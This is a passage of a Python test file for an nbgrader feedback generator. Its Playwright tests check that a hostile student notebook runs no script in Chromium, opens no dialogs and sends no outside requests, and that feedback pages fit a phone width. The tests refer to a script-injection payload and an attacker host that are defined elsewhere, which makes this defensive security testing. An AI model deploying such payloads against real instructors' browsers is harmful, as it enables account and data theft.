        if resources["nbgrader"]["student"] == "student-3":
            os._exit(1)
        return nb, resources
c.GenerateFeedback.preprocessors = [Dies, *GenerateFeedback.preprocessors.default()]
"""
    )
    (classroom / "autograded" / "student-1" / ASSIGNMENT / "p1.ipynb").write_text("{")
    students = ["student-1", "student-2", "student-3", "nobody"]
    report = feedback.generate(classroom, ASSIGNMENT, students)
    assert report.made == ["student-2"]
    assert sorted(report.failed) == ["nobody", "student-1", "student-3"]
    assert "NotJSONError" in report.failed["student-1"]
    assert "died" in report.failed["student-3"]
    assert "no autograded notebook" in report.failed["nobody"]
    assert not (classroom / "feedback" / "student-1").joinpath(ASSIGNMENT).exists()


def test_without_submissions_or_configuration_it_says_so(classroom):
    with pytest.raises(NbGraderException, match="No notebooks were matched"):
        feedback.generate(classroom, "nothing")
    (classroom / "nbgrader_config.py").write_text("1 / 0")
    with pytest.raises(ZeroDivisionError):
        feedback.generate(classroom, ASSIGNMENT)


# --- In a real browser ---------------------------------------------------------------------------


MATHJAX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"  # nbconvert's own pages ask for it


def visit(browser, address, own):
    """Open a page that gets nothing from outside; what it asked for, and its dialogs."""
    page = browser.new_context().new_page()
    asked, dialogs = [], []

    def refuse(route):
        asked.append(route.request.url)
        route.abort()

    def dismiss(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.route(lambda target: not target.startswith((own, "data:")), refuse)
    page.on("dialog", dismiss)
    page.goto(address, wait_until="load")
    return page, asked, dialogs


def touch_links(page):
    """Point at everything that students wrote, and click on links that stay on the page."""
    for link in page.query_selector_all(".text_cell_render *, .output_area *"):
        link.dispatch_event("mouseover")
        href = link.get_attribute("href") or ""
        if link.evaluate("e => e.tagName") == "A" and not href.startswith(("http", "mailto:")):
            link.dispatch_event("click")
    page.wait_for_timeout(1500)


@pytest.mark.browser
def test_nothing_runs_in_a_browser(course, tmp_path):
    """The feedback page, and Formgrader's own as the instructor's JupyterLab serves it."""
    from playwright.sync_api import sync_playwright

    assert not feedback.generate(course, ASSIGNMENT, [HOSTILE], force=True).failed
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "internet-marketer") as gradebook:
        submission = gradebook.find_submission_notebook("p1", ASSIGNMENT, HOSTILE).id
    as_it_was = tmp_path / "as_it_was.html"
    as_it_was.write_text("".join(HOSTILE_HTML[3:30]))
    with instructors_server(course) as url, sync_playwright() as playwright:
        server, token = url.split("/lab", 1)[0], url.split("token=")[1]
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM),
            args=["--no-sandbox", "--disable-background-networking"],
        )
        page, asked, _ = visit(browser, as_it_was.as_uri(), "file://")
        assert page.evaluate("window.pwned") == 1, "this test could not tell"
        assert any(address.startswith(EVIL) for address in asked), "this test could not tell"
        made = course / "feedback" / HOSTILE / ASSIGNMENT / "p1.html"
        graders = f"{server}/formgrader/submissions/{submission}/"
        for address, own in ((made.as_uri(), "file://"), (f"{graders}?token={token}", server)):
            page, asked, dialogs = visit(browser, address, own)
            start = page.url.split("#")[0]
            assert page.locator(".nbgrader_cell").count() == 3
            touch_links(page)
            assert page.evaluate("window.pwned") is None
            assert not dialogs
            assert [address for address in asked if not address.startswith(MATHJAX)] == []
            assert page.url.split("#")[0] == start
        # What the cleaner writes, Chromium's parser leaves where it was put.
        assert (
            page.evaluate(
                """pieces => pieces.filter(piece => {
                const other = document.implementation.createHTMLDocument("");
                other.documentElement.innerHTML = "<body><div><div><div id=piece>" + piece
                    + "</div></div><i id=end></i></div>";
                return other.body.children.length != 1
                    || other.getElementById("end").parentNode != other.body.firstChild
                    || other.getElementById("piece").parentNode.children.length != 1;
            })""",
                [harmless.clean_html(source) for source in soups(3000)],
            )
            == []
        )
        browser.close()


def too_wide():
    """A submission with everything that is wider than a phone."""
    notebook = assignment()
    notebook.cells[0].source += "\n\n" + "word" * 60 + "\n\n`" + "code" * 60 + "`\n\n"
    notebook.cells[0].source += f"|{'column|' * 20}\n|{'---|' * 20}\n|{'1234567|' * 20}"
    notebook.cells[1].source = "romi = " + " + ".join(["1234567"] * 40)
    notebook.cells[1].outputs = [
        new_output("stream", text="x" * 300),
        new_output(
            "display_data",
            {"text/html": pd.DataFrame([["text"] * 30])._repr_html_(), "text/plain": ""},
        ),
        new_output("display_data", {"text/plain": "y" * 300}),
        new_output("error", ename="E", evalue="z" * 300, traceback=["z" * 300]),
        new_output(
            "display_data", {"text/html": "<div style='min-width: 999px; width: 999px'>wide</div>"}
        ),
    ]
    notebook.cells[3].source = "w" * 300 + "\n\n$$" + "+".join("abcdefghi" * 30) + "$$"
    return notebook


@pytest.mark.browser
def test_a_page_fits_on_a_phone(classroom):
    from playwright.sync_api import sync_playwright

    submit(classroom, "wide", too_wide())
    students = ["wide", "honest", HOSTILE]
    assert not feedback.generate(classroom, ASSIGNMENT, students).failed
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM),
            args=["--no-sandbox", "--disable-background-networking"],
        )
        for student in students:
            made = classroom / "feedback" / student / ASSIGNMENT / "p1.html"
            for width in (390, 1280):
                context = browser.new_context(
                    viewport={"width": width, "height": 844}, is_mobile=width == 390
                )
                page = context.new_page()
                page.goto(made.as_uri(), wait_until="load")
                if "COURSE_SCREENSHOTS" in os.environ:
                    name = f"feedback-{students.index(student)}-{width}.png"
                    page.screenshot(
                        path=Path(os.environ["COURSE_SCREENSHOTS"], name), full_page=True
                    )
                assert page.evaluate("[innerWidth, document.documentElement.scrollWidth]") == [
                    width,
                    width,
                ], student
        browser.close()
